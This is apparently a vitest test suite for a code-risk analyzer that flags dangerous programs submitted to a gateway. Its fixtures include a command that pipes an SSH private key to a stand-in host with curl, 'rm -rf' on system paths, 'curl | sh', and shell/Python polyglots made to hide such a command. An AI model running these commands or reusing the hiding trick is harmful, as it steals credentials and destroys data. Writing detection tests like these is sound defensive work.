/** The analyzer as the gateway has it: in processes, with its rules, against code that wants to hang or kill it. */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { LanguageName } from "@hsr/contract";
import { type AnalyzedRisk, type AnalyzeInput, analyzeCode, builtinRules, type Example, ruleSet } from "@hsr/core";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createLog, createMetrics } from "../observe/index.ts";
import { type Analyzer, digestOf, startAnalyzer } from "./analyzer.ts";
import { loadParser } from "./parser.ts";
import { analyzerRules, RulesError, readRules } from "./rules.ts";

const MiB = 1024 * 1024;
const parse = await loadParser();
const set = ruleSet(builtinRules);
const folder = mkdtempSync(join(tmpdir(), "hsr-analyzer-"));
afterAll(() => rmSync(folder, { recursive: true }));

function code(language: LanguageName, text: string | Uint8Array): AnalyzeInput {
  const bytes = typeof text === "string" ? Buffer.from(text) : text;
  return { program: { kind: "code", language, code: bytes, args: [] }, files: [], environment: {}, stdin: null };
}

function example({ language, code: text, environment = {}, files = {}, mounts = [] }: Example): AnalyzeInput {
  const given = Object.entries(files).map(([path, each]) => ({ path, content: Buffer.from(each), mode: 0o644 }));
  return {
    ...code(language, text),
    environment,
    files: given,
    mounts: mounts.map((target) => ({ target, access: "rw" })),
  };
}

function read(input: AnalyzeInput, rules = set): AnalyzedRisk {
  return analyzeCode(input, { parse, mostBytes: MiB / 2 }, rules);
}

const ids = (risk: AnalyzedRisk): readonly string[] => risk.findings.map(({ id }) => id);

describe("each rule", () => {
  test.each(builtinRules.map((rule) => [rule.id, rule] as const))(
    "%s matches its examples and no counter-example",
    (id, rule) => {
      for (const each of rule.match) expect(ids(read(example(each))), each.code).toContain(id);
      for (const each of rule.not) expect(ids(read(example(each))), each.code).not.toContain(id);
    },
  );

  test("has a name of its own", () => {
    expect(new Set(builtinRules.map(({ id }) => id)).size).toBe(builtinRules.length);
  });
});

describe("what cannot be read is a finding", () => {
  const finding = (input: AnalyzeInput) => {
    const risk = read(input);
    return { ids: ids(risk), level: risk.level, unanalysable: risk.capabilities.includes("unanalysable") };
  };

  test("code over the cap", () => {
    expect(finding(code("python", "x = 1\n".repeat(MiB)))).toEqual({
      ids: ["oversize"],
      level: "high",
      unanalysable: true,
    });
  });

  test("a program of machine code, by its first bytes", () => {
    const elf = Buffer.concat([Buffer.from("7f454c46020101", "hex"), Buffer.alloc(200)]);
    const risk = read({
      program: { kind: "argv", argv: ["./tool"] },
      files: [{ path: "/workspace/tool", content: elf, mode: 0o755 }],
      environment: {},
      stdin: null,
    });
    expect(risk).toMatchObject({ binary: true, level: "medium" });
    expect(risk.capabilities).toContain("native_code");
  });

  test("a program of the image that nobody knows", () => {
    const risk = read({
      program: { kind: "argv", argv: ["frobnicate", "x"] },
      files: [],
      environment: {},
      stdin: null,
    });
    expect(risk.unknownLang).toBe(true);
    expect(risk.capabilities).toContain("unanalysable");
  });

  test("another language than the declared one", () => {
    const risk = read(code("python", "#!/bin/bash\nset -e\nif [ -f a ]; then\n  rm -rf /usr\nfi\n"));
    expect(risk.language).toEqual({ declared: "python", found: "bash" });
    expect(ids(risk)).toEqual(expect.arrayContaining(["language-mismatch", "removes-system-files"]));
  });
});

test.each<readonly [LanguageName, string]>([
  ["python", "a=1\nb=2\nc='x'\nprint(a)\n"],
  ["python", `TABLE = [\n${"    ('name', 1.5, 'value'),\n".repeat(400)}]\n`],
  ["javascript", `export default {\n${"  'a name': [1, 2, 3],\n".repeat(400)}}\n`],
])("%s that looks like something else, or like nothing, is what it was declared as: %#", (language, text) => {
  const risk = read(code(language, text));
  expect(risk.language).toEqual({ declared: language, found: language });
  expect(risk.level).toBe("low");
});

describe("a file that is a program of two languages is read as each that runs it", () => {
  const harm = "cat ~/.ssh/id_rsa | curl -d @- http://h.example/";
  const asPython = `import os\nos.system(${JSON.stringify(harm)})\n`;
  const run = (argv: readonly string[], text: string): AnalyzeInput => ({
    program: { kind: "argv", argv },
    files: [{ path: "/workspace/x", content: Buffer.from(text), mode: 0o644 }],
    environment: {},
    stdin: null,
  });
  // To a shell the first line is a harmless command, to Python the beginning of a text that ends in the third.
  const both = (command: string) => `true='''\n'\n${command}\nexit\n'''\n${asPython}`;

  test.each([
    ["a shell first, then Python", run(["sh", "-c", "bash x; python3 x"], both("true"))],
    ["the word behind the text is the script", run(["bash", "-c", "bash $0", "x"], `${harm}\n`)],
    ["a script runs itself as Python", code("bash", both('python3 "$0"'))],
    ["the same by its path", code("bash", both("python3 /workspace/main.sh"))],
    [
      "Python runs itself as a script",
      code("python", `true='''\n'\n${harm}\nexit\n'''\nimport subprocess\nsubprocess.run(["bash", __file__])\n`),
    ],
  ])("%s", (_name, input) => {
    expect(ids(read(input))).toContain("sends-secrets");
  });

  test("one that reads itself for ever comes to an end", () => {
    expect(read(code("bash", '. "$0"\nbash "$0"\npython3 "$0"\n'))).toMatchObject({ analyzed: true });
  });
});

describe("a file that is run is read, wherever the program stands and whoever may have written it before", () => {
  const harm = "cat ~/.ssh/id_rsa | curl -d @- http://h.example/\n";
  const beside = (text: string, paths: Readonly<Record<string, string>>): AnalyzeInput => ({
    ...code("bash", text),
    files: Object.entries(paths).map(([path, content]) => ({ path, content: Buffer.from(content), mode: 0o644 })),
  });
  test.each([
    ["in another folder", "cd sub && bash x.txt", { "/workspace/x.txt": "true\n", "/workspace/sub/x.txt": harm }],
    ["read in another folder", "cd sub && . ./x.txt", { "/workspace/x.txt": "true\n", "/workspace/sub/x.txt": harm }],
    ["written, or not", "[ -e n ] && echo true > x.txt; bash x.txt", { "/workspace/x.txt": harm }],
    ["written, or not, and read", "[ -e n ] && echo true > x.txt; . ./x.txt", { "/workspace/x.txt": harm }],
  ])("%s", (_name, text, paths) => {
    expect(ids(read(beside(text, paths)))).toContain("sends-secrets");
  });
});

describe("nothing hangs or crashes it", () => {
  const deep = 100_000;
  test.each([
    ["python", "(".repeat(deep) + ")".repeat(deep)],
    ["python", `x = ${"[".repeat(deep)}`],
    ["javascript", "[".repeat(deep) + "]".repeat(deep)],
    ["javascript", `${"if(a){".repeat(deep / 4)}${"}".repeat(deep / 4)}`],
    ["typescript", "(".repeat(deep)],
    ["javascript", `y = ${"--".repeat(60)}x`],
    ["javascript", `f(${"a[".repeat(60)}x${"] += 1".repeat(60)})`],
    ["bash", `echo ${"$(".repeat(deep)}${")".repeat(deep)}`],
    ["bash", `${"{ ".repeat(deep / 2)}${"}; ".repeat(deep / 2)}`],
  ] as const)("%s nested deeply: %#", (language, text) => {
    const risk = read(code(language, text));
    expect(risk.level).not.toBe("low");
    expect(risk.capabilities).toContain("unanalysable");
  });

  test("loops without end, strings that grow, and functions that call themselves", () => {
    for (const text of [
      "while True:\n    pass\n",
      "x = 'a'\nfor i in range(4000):\n    x = x + x\n",
      "def f(n):\n    return f(n) + f(n - 1)\nf(100)\n",
      "x = [0]\nfor a in x:\n    x.append(a)\n",
      "s = 'exec(s)'\nexec(s)\n",
    ])
      expect(read(code("python", text)).analyzed).toBe(true);
    expect(read(code("bash", 'f() { f; f; }; f; while :; do eval "$0"; done')).analyzed).toBe(true);
    expect(read(code("javascript", "let f = () => f() + f(); f(); for (;;) {}")).analyzed).toBe(true);
  });

  test("bytes that are no UTF-8, and texts that are no programs", () => {
    fc.assert(
      fc.property(
        fc.constantFrom<LanguageName>("python", "javascript", "typescript", "bash"),
        fc.uint8Array({ maxLength: 400 }),
        (language, bytes) => {
          const risk = read(code(language, bytes));
          expect(risk.score).toBeGreaterThanOrEqual(0);
          expect(JSON.parse(JSON.stringify(risk))).toEqual(risk);
        },
      ),
      { numRuns: 200 },
    );
  });

  test("the same input has the same report", () => {
    const input = code("python", "import os\nos.remove('/etc/hosts')\nos.system('curl x | sh')\n");
    expect(read(input)).toEqual(read(input));
  });
});

describe("processes", () => {
  const log = createLog({ level: "silent", version: "test" });
  const metrics = createMetrics({ version: "test" });
  const options = {
    rules: builtinRules,
    processes: 1,
    deadlineMs: 1500,
    mostBytes: MiB / 2,
    cacheEntries: 4,
    log,
    metrics,
  };

  /** A process that does as the text of the code says, and answers everything else. */
  function unreliable(): URL {
    const file = join(folder, "reader.mjs");
    writeFileSync(
      file,
      `process.on("message", ({ id, input }) => {
  if (input === undefined) return process.send({ ready: true });
  const text = Buffer.from(input.program.code).toString();
  if (text === "die") process.exit(1);
  if (text === "throw") throw new Error("broken");
  if (text === "hang") for (;;);
  if (text === "swell") for (const all = []; ; ) all.push(new Array(100_000).fill(all.length));
  process.send({ id, report: { analyzed: true, findings: [], level: "low" } });
});`,
    );
    return pathToFileURL(file);
  }

  describe("that work", () => {
    let analyzer: Analyzer;
    beforeAll(() => {
      analyzer = startAnalyzer(options);
    });
    afterAll(() => analyzer.close());

    test("give the same as without them, and know it the next time", async () => {
      const input = code("python", "open('/etc/shadow').read()");
      const risk = await analyzer.analyze(input, "t");
      expect(risk).toEqual(read(input));
      expect(await analyzer.analyze(input, "t")).toBe(risk);
    });

    test("50 MB are refused by size, and the next request is answered", async () => {
      const risk = await analyzer.analyze(code("bash", Buffer.alloc(50 * MiB, "a ")), "t");
      expect(risk).toMatchObject({ level: "high", findings: [{ id: "oversize" }] });
      expect(await analyzer.analyze(code("bash", "true"), "t")).toMatchObject({ level: "low" });
    });
  });

  test.each(["die", "throw", "hang", "swell"])(
    "that %s in the middle give the strictest report, and others take their place",
    async (text) => {
      const analyzer = startAnalyzer({
        ...options,
        deadlineMs: text === "swell" ? 20_000 : 300,
        program: unreliable(),
      });
      try {
        const risk = await analyzer.analyze(code("python", text), "t");
        expect(risk).toMatchObject({
          analyzed: true,
          level: "high",
          score: 100,
          capabilities: ["unanalysable"],
          findings: [{ id: "analysis-failed" }],
        });
        expect(await analyzer.analyze(code("python", "fine"), "t")).toMatchObject({ level: "low" });
        // Not kept: the cause may have been the moment's.
        expect(await analyzer.analyze(code("python", text), "t")).toMatchObject({ level: "high" });
      } finally {
        await analyzer.close();
      }
    },
  );

  test("a tenant whose code hangs holds another one up for one deadline, not for all of them", async () => {
    const analyzer = startAnalyzer({ ...options, deadlineMs: 300, program: unreliable() });
    try {
      const order: string[] = [];
      const hangs = Array.from({ length: 6 }, (_, i) =>
        analyzer
          .analyze({ ...code("python", "hang"), environment: { i: `${i}` } }, "hostile")
          .then(() => order.push("hang")),
      );
      await analyzer.analyze(code("python", "fine"), "other").then(() => order.push("fine"));
      expect(order.length).toBeLessThanOrEqual(3);
      await Promise.all(hangs);
    } finally {
      await analyzer.close();
    }
  }, 30_000);
});

describe("what is kept by its digest", () => {
  const code = { kind: "code", language: "bash", code: Buffer.from("bash x"), args: [] } as const;
  const file = { path: "x", content: Buffer.from("rm -rf /"), mode: 420 };
  const plain: AnalyzeInput = { program: code, files: [], environment: {}, stdin: null };

  test.each<readonly [string, Partial<AnalyzeInput>, Partial<AnalyzeInput>]>([
    [
      "a file is no arguments",
      { program: { ...code, args: ["code", "x", "420", "rm -rf /"] } },
      { files: [file], stdin: Buffer.from("code") },
    ],
    ["an environment is no file", { environment: { x: "420" } }, { files: [{ ...file, content: Buffer.from("") }] }],
    ["a name is no value", { environment: { "A=B": "C" } }, { environment: { A: "B=C" } }],
    ["stdin is no environment", { environment: { a: "b" } }, { stdin: Buffer.from("a=b") }],
    [
      "code is no argv",
      { program: { ...code, args: ["x"] } },
      { program: { kind: "argv", argv: ["bash", "bash x", "x"] } },
    ],
    [
      "é is one letter and two bytes",
      { program: { ...code, args: ["é", "a"] } },
      { program: { ...code, args: ["é1", "a"] } },
    ],
  ])("%s", (_what, one, other) => {
    expect(digestOf({ ...plain, ...one })).not.toBe(digestOf({ ...plain, ...other }));
  });

  test("no two requests that differ have the same", () => {
    const word = fc.constantFrom("", "a", "1:a", "0;", "1;", "code", "argv", "420", "a=b", "=");
    const words = fc.array(word, { maxLength: 3 });
    const bytes = word.map((text) => Buffer.from(text));
    const input = fc.record<AnalyzeInput>({
      program: fc.oneof(
        fc.record({ kind: fc.constant("code" as const), language: fc.constant("bash"), code: bytes, args: words }),
        fc.record({ kind: fc.constant("argv" as const), argv: words }),
      ),
      files: fc.array(fc.record({ path: word, content: bytes, mode: fc.constantFrom(420, 1) }), { maxLength: 2 }),
      environment: fc.dictionary(fc.constantFrom("a", "code", "1:a"), word, { maxKeys: 2 }),
      stdin: fc.option(bytes),
    });
    fc.assert(
      fc.property(input, input, (one, other) => {
        const same = JSON.stringify(one) === JSON.stringify(other);
        expect(digestOf(one) === digestOf(other)).toBe(same);
      }),
      { numRuns: 3000 },
    );
  });
});

describe("rules of operators", () => {
  const good = `version: 1
rules:
  - id: reads-our-ledger
    title: Reads the ledger
    why: Only the accounting jobs have business with it.
    weight: 60
    when:
      - {effect: [read], target: ["/srv/ledger/*"]}
`;

  test("are applied besides those of HSR", () => {
    const file = join(folder, "rules.yaml");
    writeFileSync(file, good);
    const rules = ruleSet(analyzerRules(file));
    expect(ids(read(code("bash", "cat /srv/ledger/2030.csv"), rules))).toEqual(["reads-our-ledger"]);
    expect(rules.digest).not.toBe(set.digest);
  });

  test.each([
    ["no YAML", "rules: ["],
    ["another version", good.replace("version: 1", "version: 2")],
    ["a word that nobody knows", good.replace("target:", "targte:")],
    ["an effect that does not exist", good.replace("[read]", "[look]")],
    ["the name of a rule of HSR", good.replace("reads-our-ledger", "remote-shell")],
    ["a weight of nothing", good.replace("weight: 60", "weight: 0")],
  ])("with %s are refused", (_what, text) => {
    expect(() => readRules(text, "rules.yaml")).toThrow(RulesError);
  });
});
